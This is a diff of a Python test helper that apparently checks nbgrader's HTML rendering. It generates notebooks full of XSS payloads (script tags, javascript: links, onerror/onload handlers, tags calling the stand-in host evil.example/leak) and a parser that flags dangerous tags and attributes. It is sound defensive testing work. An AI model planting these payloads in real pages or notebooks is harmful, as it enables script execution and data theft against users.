@@ -1,6 +1,7 @@
-"""Make payloads for pages, and the pages that they are meant for.
+"""Make payloads for pages, and the pages that they attack.
 
-Each payload is a way to run something, load something or take over a page."""
+Each payload is a way to run something, to load something or to take over a page.
+"""
 
 import base64
 import copy
@@ -15,9 +16,10 @@ from nbconvert.exporters import HTMLExporter
 from traitlets.config import Config
 
 PNG = (
-    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"
-    "AAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
+    "gg=="
 )
+SVG = base64.b64encode(b"<svg onload=alert(1)>").decode()
 EVIL = "https://evil.example/leak"
 CODE = "alert(document.domain)"
 
@@ -56,10 +58,8 @@ def html_payloads() -> list[str]:
         f'<iframe srcdoc="<script>{CODE}</script>"></iframe>',
         f'<object data="{EVIL}"></object>',
         f'<embed src="{EVIL}">',
-        (
-            f'<form action="{EVIL}"><input name=a autofocus><button '
-            f'formaction="javascript:{CODE}">go</button></form>'
-        ),
+        f'<form action="{EVIL}"><input name=a autofocus>'
+        f'<button formaction="javascript:{CODE}">go</button></form>',
         f'<base href="{EVIL}/">',
         f'<meta http-equiv="refresh" content="0;url={EVIL}">',
         f'<link rel="stylesheet" href="{EVIL}.css">',
@@ -73,8 +73,7 @@ def html_payloads() -> list[str]:
         f'<audio src="{EVIL}.mp3" autoplay></audio>',
         f'<table background="{EVIL}.png"><tr><td>x</td></tr></table>',
         f'<div style="background:url({EVIL}.png)">x</div>',
-        '<img src="data:image/svg+xml;base64,'
-        f'{base64.b64encode(b"<svg onload=alert(1)>").decode()}">',
+        f'<img src="data:image/svg+xml;base64,{SVG}">',
     ]
     odd = [
         f"<script>{CODE}</script>",
@@ -99,7 +98,7 @@ def html_payloads() -> list[str]:
 
 
 def markdown_payloads() -> list[str]:
-    """What only markdown makes of it."""
+    """What becomes dangerous only when markdown is rendered."""
     return [
         f"[x](javascript:{CODE})",
         f"[x](<java\tscript:{CODE}>)",
@@ -171,7 +170,7 @@ def outputs() -> list[dict[str, Any]]:
         display({"text/vnd.mermaid": f"<img src=x onerror={CODE}>"}),
         display({"application/pdf": "JVBERi0="}),
         display({"image/png": f'" onerror="{CODE}'}),
-        display({"image/png": base64.b64encode(b"<svg onload=alert(1)>").decode()}),
+        display({"image/png": SVG}),
         display(
             {"image/png": PNG},
             {"image/png": {"width": f"1 onerror={CODE}", "alt": f'"><script>{CODE}</script>'}},
@@ -193,7 +192,7 @@ def display(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> dic
 
 
 def notebook() -> dict[str, Any]:
-    """A notebook that holds all of it: outputs, prose, raw cells, attachments, metadata, names."""
+    """A notebook with all payloads: outputs, prose, raw cells, attachments, metadata, names."""
     cells = [
         {"cell_type": "markdown", "metadata": {}, "id": f"m{n}", "source": payload}
         for n, payload in enumerate([*html_payloads(), *markdown_payloads()])
@@ -243,8 +242,6 @@ def _batches() -> list[list[dict[str, Any]]]:
     return [made[start : start + 40] for start in range(0, len(made), 40)]
 
 
-# -- the parser that looks at a page ---------------------------------------------------------------
-
 FORBIDDEN = {
     "script",
     "iframe",
@@ -271,18 +268,18 @@ LOADING = {"src", "srcset", "poster", "background", "data", "action", "formactio
 
 
 class Danger(HTMLParser):
-    """What is dangerous in a fragment of HTML, as (tag, attribute, value)."""
+    """Find what is dangerous in a fragment of HTML: `dangers` holds (tag, attribute, value)."""
 
     def __init__(self, html: str):
         super().__init__(convert_charrefs=True)
-        self.found: list[tuple[str, str, str]] = []
+        self.dangers: list[tuple[str, str, str]] = []
         self.ids: list[str] = []
         self.feed(html)
         self.close()
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
         if tag in FORBIDDEN:
-            self.found.append((tag, "", ""))
+            self.dangers.append((tag, "", ""))
         for name, value in attrs:
             text = "".join((value or "").split()).lower()
             if name == "id":
@@ -302,14 +299,11 @@ class Danger(HTMLParser):
                 name == "href" and not text.startswith(("http://", "https://", "mailto:", "#"))
             )
             if bad:
-                self.found.append((tag, name, text[:80]))
-
-
-# -- nbgrader's own pages --------------------------------------------------------------------------
+                self.dangers.append((tag, name, text[:80]))
 
 
 def page_of(made, template):
-    """What nbgrader's own template makes of a notebook: the part that holds its cells."""
+    """The page that nbgrader's template makes of a notebook."""
     settings = Config()
     settings.Exporter.default_preprocessors = []
     settings.HTMLExporter.template_name = template
@@ -332,5 +326,5 @@ def page_of(made, template):
 
 
 def frame(template):
-    """What that template itself puts around the cells of an empty notebook."""
+    """The page that the template makes of an empty notebook."""
     return page_of({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, template)
